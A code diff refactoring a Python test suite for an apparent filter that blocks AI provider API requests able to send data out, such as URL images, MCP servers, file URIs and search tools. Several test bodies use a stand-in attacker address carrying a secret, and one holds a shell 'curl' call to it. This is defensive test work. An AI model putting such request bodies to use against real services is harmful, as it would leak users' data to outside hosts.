@@ -20,6 +20,9 @@ MESSAGES_COUNT = Route(WireFormat.ANTHROPIC, Operation.COUNT, "/v1/messages/coun
 RESPONSES_COUNT = Route(WireFormat.OPENAI, Operation.COUNT, "/responses/input_tokens")
 GEMINI_COUNT = Route(WireFormat.GOOGLE, Operation.COUNT, "/v1beta/models/m:countTokens", "m")
 ADDRESS = "https://evil.example.com/?the=secret"
+IMAGE = {"type": "image", "source": {"type": "url", "url": ADDRESS}}
+INPUT_IMAGE = {"type": "input_image", "image_url": ADDRESS}
+FILE = {"parts": [{"fileData": {"fileUri": ADDRESS}}]}
 MCP = {"type": "mcp_toolset", "mcp_server_name": "evil"}
 
 
@@ -32,19 +35,14 @@ WAYS_OUT = [
     (MESSAGES, {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}),
     (MESSAGES, {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]}),
     (MESSAGES, {"mcp_servers": [{"type": "url", "url": ADDRESS}]}),
-    (MESSAGES, _user({"type": "image", "source": {"type": "url", "url": ADDRESS}})),
-    (
-        MESSAGES,
-        _user(
-            {"type": "tool_result", "content": [{"type": "image", "source": {"type": "url", "url": ADDRESS}}]}
-        ),
-    ),
+    (MESSAGES, _user(IMAGE)),
+    (MESSAGES, _user({"type": "tool_result", "content": [IMAGE]})),
     (RESPONSES, {"tools": [{"type": "mcp", "server_url": ADDRESS}]}),
     (RESPONSES, {"tools": [{"type": "web_search"}]}),
     (RESPONSES, {"tools": [{"type": "namespace", "tools": [{"type": "mcp", "server_url": ADDRESS}]}]}),
     (RESPONSES, {"tools": [{"type": "shell", "environment": {"type": "container_auto"}}]}),
     (RESPONSES, {"tools": [{"type": "code_interpreter"}]}),
-    (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": ADDRESS}]}]}),
+    (RESPONSES, {"input": [{"role": "user", "content": [INPUT_IMAGE]}]}),
     (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_url": ADDRESS}]}]}),
     (RESPONSES, {"prompt": {"id": "pmpt_1"}}),
     (CHAT, {"web_search_options": {}, "messages": []}),
@@ -52,28 +50,22 @@ WAYS_OUT = [
     (GEMINI, {"tools": [{"urlContext": {}}]}),
     (GEMINI, {"tools": [{"google_search": {}}]}),
     (GEMINI, {"tools": {"urlContext": {}}}),
-    (GEMINI, {"contents": [{"parts": [{"fileData": {"fileUri": ADDRESS}}]}]}),
+    (GEMINI, {"contents": [FILE]}),
     (GEMINI, {"contents": {"parts": {"file_data": {"file_uri": ADDRESS}}}}),
     (GEMINI, {"systemInstruction": {"parts": {"fileData": {"fileUri": ADDRESS}}}}),
-    (GEMINI, {"systemInstruction": {"parts": [{"fileData": {"fileUri": ADDRESS}}]}}),
+    (GEMINI, {"systemInstruction": FILE}),
     (GEMINI, {"contents": [{"parts": [{"response": {"fileData": {"fileUri": ADDRESS}}}]}]}),
     (GEMINI, {"generationOutputConfig": {"outputUriPrefix": "gs://evil/"}}),
     (GEMINI, {"generationConfig": {"generation_output_config": {"output_uri_prefix": "gs://evil/"}}}),
     (GEMINI, {"cachedContent": "cachedContents/1"}),
-    (
-        GEMINI_COUNT,
-        {"generateContentRequest": {"contents": [{"parts": [{"fileData": {"fileUri": ADDRESS}}]}]}},
-    ),
+    (GEMINI_COUNT, {"generateContentRequest": {"contents": [FILE]}}),
     (GEMINI_COUNT, {"generateContentRequest": {"tools": [{"urlContext": {}}]}}),
     (MESSAGES, _user({"type": "tool_addition", "tool": {"type": "tool_definition", "definition": MCP}})),
     (MESSAGES_COUNT, {"mcp_servers": [{"type": "url", "url": ADDRESS}]}),
     (MESSAGES_COUNT, _user({"type": "document", "source": {"type": "url", "url": ADDRESS}})),
     (RESPONSES, {"input": [{"type": "additional_tools", "tools": [{"type": "mcp", "server_url": ADDRESS}]}]}),
     (RESPONSES, {"input": [{"type": "tool_search_output", "tools": [{"type": "mcp", "tunnel_id": "t"}]}]}),
-    (
-        RESPONSES_COUNT,
-        {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": ADDRESS}]}]},
-    ),
+    (RESPONSES_COUNT, {"input": [{"role": "user", "content": [INPUT_IMAGE]}]}),
     (CHAT, _user({"type": "video_url", "video_url": {"url": ADDRESS}})),
     (CHAT, _user({"audio_url": ADDRESS})),
     (CHAT, _user({"type": "document_url", "document_url": ADDRESS})),
@@ -119,6 +111,7 @@ def test_the_provider_is_no_way_out(route: Route, body: dict[str, Any]) -> None:
     assert read_request(route, text, provider_tools=True).body == text
 
 
+SCHEMA = {"$schema": ADDRESS, "$ref": "#/a"}
 ORDINARY = [
     (MESSAGES, {"tools": [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"}]}),
     (MESSAGES, _user({"type": "tool_use", "name": "WebFetch", "input": {"type": "url", "url": ADDRESS}})),
@@ -137,10 +130,7 @@ ORDINARY = [
     (RESPONSES, {"input": [{"type": "web_search_call", "action": {"type": "open_page", "url": ADDRESS}}]}),
     (MESSAGES, {"output_config": {"format": {"schema": {"$schema": ADDRESS}}}, "metadata": {"user_id": "u"}}),
     (CHAT, {"tools": [{"type": "function", "function": {"name": "f", "description": ADDRESS}}]}),
-    (
-        CHAT,
-        {"tools": [{"type": "function", "function": {"parameters": {"$schema": ADDRESS, "$ref": "#/a"}}}]},
-    ),
+    (CHAT, {"tools": [{"type": "function", "function": {"parameters": SCHEMA}}]}),
     (RESPONSES, {"tools": [{"type": "custom", "format": {"type": "grammar", "definition": ADDRESS}}]}),
     (RESPONSES, {"input": [{"type": "local_shell_call", "action": {"command": ["curl", ADDRESS]}}]}),
     (RESPONSES, {"input": [{"type": "function_call", "arguments": ADDRESS}]}),
@@ -198,25 +188,25 @@ def test_only_known_headers_and_parameters_are_sent() -> None:
             sent_parameters(query)
 
 
+@pytest.mark.parametrize("kind", [None, "application/json", "Application/JSON; charset=UTF-8"])
+def test_plain_json_is_read(kind: str | None) -> None:
+    check_content({"content-type": kind} if kind else {})
+
+
+PROTOBUF, FORM = "application/x-protobuf", "multipart/form-data; boundary=x"
+
+
 @pytest.mark.parametrize(
-    ("headers", "status"),
+    ("name", "value", "status"),
     [
-        ({}, 200),
-        ({"content-type": "application/json"}, 200),
-        ({"content-type": "Application/JSON; charset=UTF-8"}, 200),
-        ({"content-type": "application/json; charset=utf-16"}, 415),
-        ({"content-type": "application/x-protobuf"}, 415),
-        ({"content-type": "multipart/form-data; boundary=x"}, 415),
-        ({"content-type": "application/json, text/plain"}, 415),
-        ({"content-encoding": "zstd"}, 400),
+        *(("content-type", kind, 415) for kind in ("application/json; charset=utf-16", PROTOBUF, FORM)),
+        ("content-type", "application/json, text/plain", 415),
+        ("content-encoding", "zstd", 400),
     ],
 )
-def test_only_plain_json_is_read(headers: dict[str, str], status: int) -> None:
-    if status == 200:
-        check_content(headers)
-        return
+def test_nothing_else_is_read(name: str, value: str, status: int) -> None:
     with pytest.raises(RequestRefusedError) as refused:
-        check_content(headers)
+        check_content({name: value})
     assert refused.value.status == status
 
 
@@ -291,18 +281,12 @@ def test_what_has_no_known_size_is_not_estimated(route: Route, body: dict[str, A
 
 
 SIZED: list[tuple[Route, dict[str, Any]]] = [
-    (
-        MESSAGES,
-        {**_user({"type": "text", "text": "x", "cache_control": {"type": "ephemeral"}}), "system": []},
-    ),
+    (MESSAGES, _user({"type": "text", "text": "x", "cache_control": {"type": "ephemeral"}}) | {"system": []}),
     (MESSAGES, {"context_management": {"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]}}),
     (MESSAGES, _user({"type": "thinking", "thinking": "x", "signature": "AAAA"})),
     (MESSAGES, _user({"type": "tool_use", "id": "t", "name": "f", "input": {"file_id": "x"}})),
     (MESSAGES, _user({"type": "tool_result", "tool_use_id": "t", "content": "x", "is_error": False})),
-    (
-        MESSAGES,
-        {"thinking": {"type": "adaptive"}, "output_config": {"effort": "high"}, "metadata": {"a": "b"}},
-    ),
+    (MESSAGES, {"thinking": {"type": "adaptive"}, "output_config": {"effort": "high"}, "metadata": {}}),
     (CHAT, {"messages": [{"role": "tool", "tool_call_id": "c", "content": "x"}], "stream": True, "n": None}),
     (CHAT, {"messages": [{"role": "assistant", "tool_calls": [{"type": "function", "function": {}}]}]}),
     (RESPONSES, {"previous_response_id": None, "store": False, "include": ["reasoning.encrypted_content"]}),
@@ -310,10 +294,7 @@ SIZED: list[tuple[Route, dict[str, Any]]] = [
     (RESPONSES, {"input": [{"type": "reasoning", "id": "rs_1", "summary": [], "encrypted_content": "AAAA"}]}),
     (RESPONSES, {"input": [{"type": "custom_tool_call_output", "call_id": "c", "output": "x"}]}),
     (RESPONSES, {"client_metadata": {"session_id": "x"}, "reasoning": {"summary": "auto"}, "tools": []}),
-    (
-        GEMINI,
-        {"contents": [{"role": "model", "parts": [{"functionCall": {"id": "c", "name": "f", "args": {}}}]}]},
-    ),
+    (GEMINI, {"contents": [{"parts": [{"functionCall": {"id": "c", "name": "f", "args": {}}}]}]}),
     (GEMINI, {"contents": [{"parts": [{"functionResponse": {"name": "f", "response": {"a": 1}}}]}]}),
     (GEMINI, {"contents": [{"parts": [{"text": "x", "thought": True, "thoughtSignature": "AAAA"}]}]}),
 ]
@@ -360,10 +341,8 @@ def test_ordinary_modes_have_the_price_of_text() -> None:
 
 def test_the_remotes_that_codex_reports_are_left_out() -> None:
     body = {"model": "m", "input": "hi", "client_metadata": {"turn": '{"remotes": ["https://host/a.git"]}'}}
-    assert json.loads(read_request(RESPONSES, json.dumps(body).encode()).body) == {
-        "model": "m",
-        "input": "hi",
-    }
+    sent = json.loads(read_request(RESPONSES, json.dumps(body).encode()).body)
+    assert sent == {"model": "m", "input": "hi"}
 
 
 def test_the_number_of_values_has_a_limit_and_texts_do_not_count(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -379,28 +358,19 @@ def test_the_number_of_values_has_a_limit_and_texts_do_not_count(monkeypatch: py
 @pytest.mark.parametrize(
     "body",
     [
-        b"",
-        b"{",
-        b"[]",
-        b'{"model": 1}',
-        b"{}",
-        b'{"model": "m", "background": true}',
+        *(b"", b"{", b"[]", b'{"model": 1}', b"{}", b'{"model": "m", "background": true}', b"[" * 100_000),
         b'{"model": "m", "tools": [], "tools": []}',
         b'{"model": "m", "tools": [], "t\\u006fols": []}',
         b'{"model": "m", "input": [{"type": "text", "type": "\\ud800"}]}',
-        b'{"model": "m", "Model": "another"}',
-        b'{"model": "m", "Tools": [{"type": "web_search"}]}',
+        *(b'{"model": "m", "Model": "another"}', b'{"model": "m", "Tools": [{"type": "web_search"}]}'),
         b'{"model": "m", "input": [{"Role": "user"}]}',
         b'{"model": "m", "input": [{"role": "user", "content": [{"Type": "input_file"}]}]}',
         b'{"model": "m", "tools": [{"Type": "web_search"}]}',
-        b'{"model": "m", "extra": {"Tools": []}}',
-        b'{"model": "m", "tools\\u0000": []}',
+        *(b'{"model": "m", "extra": {"Tools": []}}', b'{"model": "m", "tools\\u0000": []}'),
         b'{"model": "m", "temperature": NaN}',
         b'{"model": "m", "temperature": NaN, "input": "\\ud800"}',
-        '{"model": "m", "tool\u017f": []}'.encode(),
-        '{"model": "m"}'.encode("utf-16"),
+        *('{"model": "m", "tool\u017f": []}'.encode(), '{"model": "m"}'.encode("utf-16")),
         b'{"model": "m", "input": "\xff"}',
-        b"[" * 100_000,
     ],
 )
 def test_what_cannot_be_counted_is_refused(body: bytes) -> None:
